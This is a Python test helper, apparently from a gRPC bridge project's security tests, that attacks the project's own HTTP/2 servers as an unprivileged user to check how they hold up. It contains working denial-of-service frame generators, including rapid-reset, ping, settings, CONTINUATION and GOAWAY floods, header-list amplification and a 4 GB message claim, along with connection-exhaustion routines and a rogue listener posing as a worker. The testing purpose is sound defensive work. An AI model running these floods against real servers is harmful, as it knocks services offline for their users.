"""An attacker on servers of the wire contract, in a process of its own, as any user.

`python -m tests.helpers.stranger UID ATTACK ADDRESS` prints, as JSON, what the attack has reached.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any, Final

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from bridge_py.contract.client import AsyncioClient
from bridge_py.wire.errors import SnakepitError
from bridge_py.wire.messages.snakepit import bridge as messages

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
UNKNOWN: Final = b"\0\0\1\x42\0\0\0\0\0x"  # a frame of the kind 0x42, which there is not
LONGEST: Final = 60.0  # seconds that an attack goes on
HEADERS: Final = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/snakepit.bridge.BridgeService/Ping"),
    (":authority", "x"),
    ("te", "trailers"),
    ("content-type", "application/grpc+proto"),
]


def use(address: str) -> dict[str, Any]:
    """Use the pool like an owner: answers or errors by what was tried."""
    return asyncio.run(_use(address))


async def _use(address: str) -> dict[str, Any]:
    client = AsyncioClient(address, connect_timeout=0.1)
    tries: dict[str, Callable[[], Any]] = {
        "ping": lambda: client.ping("x"),
        "tool": lambda: client.execute_tool("add", {"a": 1, "b": 2}),
        "file": lambda: client.execute_host_tool("read"),
        "session": lambda: client.set_variable("theirs", "x", 666.0),
    }
    reached = {}
    for name, attempt in tries.items():
        try:
            reached[name] = await attempt()
        except SnakepitError as error:
            reached[name] = f"{type(error).__name__}: {error}"
    client.close()
    return reached


def connect(address: str) -> socket.socket:
    """Connect to "host:port" or "unix:/path"."""
    if address.startswith("unix:"):
        found = socket.socket(socket.AF_UNIX)
        found.connect(address.removeprefix("unix:"))
        return found
    host, _, port = address.rpartition(":")
    found = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    found.connect((host, int(port)))
    return found


def in_passing(address: str) -> dict[str, Any]:
    """Send a whole request, and close the connection before anybody has looked who it is."""
    with connect(address) as found:
        found.sendall(PREFACE + SettingsFrame(0).serialize() + request(Encoder(), 1) + message(1, b""))
    return {"sent": True}


def often(address: str) -> dict[str, Any]:
    """Connect many times; which of the connections were closed at once."""
    closed = 0
    for _ in range(300):
        with connect(address) as found:
            closed += is_closed(found)
    return {"closed": closed}


def at_once(address: str) -> dict[str, Any]:
    """Hold many connections; how many of them are not closed."""
    held = [connect(address) for _ in range(400)]
    time.sleep(1)
    return {"held": sum(not is_closed(found, 0) for found in held)}


def is_closed(found: socket.socket, seconds: float = 5.0) -> bool:
    """Whether the other side closes a connection, without having said anything."""
    found.settimeout(seconds or 0.01)
    try:
        return not found.recv(65536)
    except TimeoutError:
        return False
    except ConnectionError:
        return True


def serve(address: str) -> dict[str, Any]:
    """Pose as a worker at a port; what its visitors have sent within a few seconds."""
    host, _, port = address.rpartition(":")
    heard = b""
    with socket.create_server((host, int(port))) as listener:
        print(json.dumps({"port": listener.getsockname()[1]}), flush=True)
        listener.settimeout(LONGEST)
        while time.monotonic() < started + LONGEST:
            found, _ = listener.accept()
            with found:
                found.settimeout(0.5)
                with contextlib.suppress(TimeoutError, ConnectionError):
                    heard += found.recv(65536)
    return {"heard": len(heard)}


def import_all() -> None:
    """Import what is imported late: the stranger may not read this Python's folder."""
    bytes(messages.PingRequest(message="x"))
    "x".encode("idna")
    asyncio.run(asyncio.sleep(0))


# Frames that a client would not send.


def request(encoder: Encoder, stream: int) -> bytes:
    frame = HeadersFrame(stream, encoder.encode(HEADERS), flags=["END_HEADERS"])
    return bytes(frame.serialize())


def message(stream: int, content: bytes, size: int | None = None, end: bool = True) -> bytes:
    head = struct.pack(">?I", False, len(content) if size is None else size)
    return bytes(DataFrame(stream, head + content, flags=["END_STREAM"] if end else []).serialize())


def resets() -> Iterator[bytes]:
    """Rapid resets: requests that are taken back at once."""
    encoder = Encoder()
    for stream in range(1, 2**31, 2):
        yield request(encoder, stream) + RstStreamFrame(stream, error_code=8).serialize()


def streams() -> Iterator[bytes]:
    """Requests that never end."""
    encoder = Encoder()
    for stream in range(1, 2**31, 2):
        yield request(encoder, stream)


def pings() -> Iterator[bytes]:
    """Pings, all of which want an answer."""
    while True:
        yield PingFrame(0, b"12345678").serialize() * 100


def settings() -> Iterator[bytes]:
    """Settings, all of which want an answer."""
    while True:
        yield SettingsFrame(0, settings={4: 65535}).serialize() * 100


def priorities() -> Iterator[bytes]:
    """Priorities of streams that there are not."""
    while True:
        yield PriorityFrame(99, depends_on=0, stream_weight=1).serialize() * 100


def empties() -> Iterator[bytes]:
    """Empty frames of one request, which cost no window."""
    yield request(Encoder(), 1) + message(1, b"", 1000, end=False)
    while True:
        yield DataFrame(1, b"").serialize() * 100


def late() -> Iterator[bytes]:
    """Frames of a request that the server has refused and reset."""
    yield request(Encoder(), 1) + message(1, b"", 2**32 - 1, end=False)
    while True:
        yield DataFrame(1, b"x").serialize() * 100


def tinies() -> Iterator[bytes]:
    """Frames of one byte, of a request that has its answer."""
    yield request(Encoder(), 1) + message(1, b"", end=False)
    while True:
        yield DataFrame(1, b"x").serialize() * 100


def unknowns() -> Iterator[bytes]:
    """Frames of a kind that HTTP/2 does not know, which everybody should ignore."""
    while True:
        yield UNKNOWN * 100


def unknowns_late() -> Iterator[bytes]:
    """The same behind so many others that they are parsed in a later turn."""
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize() * 20_000 + UNKNOWN * 5_000


def continuations() -> Iterator[bytes]:
    """Headers that never end."""
    yield HeadersFrame(1, Encoder().encode(HEADERS)).serialize()
    while True:
        yield ContinuationFrame(1, b"").serialize() * 100


def header_lists() -> Iterator[bytes]:
    """Headers that are small on their way and grow when they are read."""
    encoder = Encoder()
    block = encoder.encode([*HEADERS, ("x", "y" * 3000)]) + encoder.encode([("x", "y" * 3000)]) * 10_000
    for stream in range(1, 2**31, 2):
        yield HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()


def odd_headers() -> Iterator[bytes]:
    """Headers that are not ASCII, behind frames that take a while."""
    odd = HeadersFrame(1, Encoder().encode([*HEADERS, ("x", b"\xff")]), flags=["END_HEADERS"]).serialize()
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize() * 20_000 + odd


def goaways() -> Iterator[bytes]:
    """The end of the connection, again and again."""
    while True:
        yield GoAwayFrame(0, last_stream_id=0, error_code=0).serialize() * 100


def flood(address: str, frames: Iterator[bytes]) -> dict[str, Any]:
    """Send frames until the connection is closed, and read nothing; how long that took, and the bytes sent."""
    sent = 0
    with connect(address) as found:
        found.sendall(PREFACE + SettingsFrame(0).serialize())
        found.settimeout(30)
        try:
            for piece in frames:
                if time.monotonic() > started + LONGEST:
                    return {"closed": False, "bytes": sent}
                found.sendall(piece)
                sent += len(piece)
        except TimeoutError:
            return {"closed": False, "bytes": sent}
        except ConnectionError:
            pass
    return {"closed": True, "bytes": sent}


def giant(address: str) -> dict[str, Any]:
    """Send a message that claims to have 4 GB; the status, and how much of it was taken."""
    sent = 0
    client = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="ascii"))
    with connect(address) as found:
        client.initiate_connection()
        client.send_headers(1, HEADERS)
        client.send_data(1, struct.pack(">?I", False, 2**32 - 1))
        while time.monotonic() < started + LONGEST:
            if (room := min(client.local_flow_control_window(1), 16384)) > 0:
                client.send_data(1, bytes(room))
                sent += room
            found.sendall(client.data_to_send())
            while select.select([found], [], [], 0 if room > 0 else 1)[0]:
                for event in client.receive_data(found.recv(65536)):
                    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        headers: dict[Any, Any] = dict(event.headers)
                        return {"status": headers.get("grpc-status"), "bytes": sent}
    return {"status": None, "bytes": sent}


def answer(address: str) -> dict[str, Any]:
    """Serve one client, and answer its request with a message that claims to have 4 GB."""
    host, _, port = address.rpartition(":")
    server = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
    with socket.create_server((host, int(port))) as listener:
        print(json.dumps({"port": listener.getsockname()[1]}), flush=True)
        found, _ = listener.accept()
    with found:
        server.initiate_connection()
        while True:
            found.sendall(server.data_to_send())
            if not (data := found.recv(65536)):
                return {}
            for event in server.receive_data(data):
                if isinstance(event, h2.events.RequestReceived):
                    server.send_headers(1, [(":status", "200"), ("content-type", "application/grpc+proto")])
                    server.send_data(1, struct.pack(">?I", False, 2**32 - 1))


FLOODS: Final = {
    each.__name__: each
    for each in (
        *(resets, streams, pings, settings, priorities, empties, late, tinies),
        *(unknowns, unknowns_late, odd_headers, continuations, header_lists, goaways),
    )
}
ATTACKS: Final = {each.__name__: each for each in (use, in_passing, often, at_once, serve, giant, answer)}

if __name__ == "__main__":
    uid, attack, address = sys.argv[1:]
    import_all()
    os.setgroups([]) if os.getuid() == 0 else None
    os.setuid(int(uid))
    started = time.monotonic()
    print(json.dumps(flood(address, FLOODS[attack]()) if attack in FLOODS else ATTACKS[attack](address)))
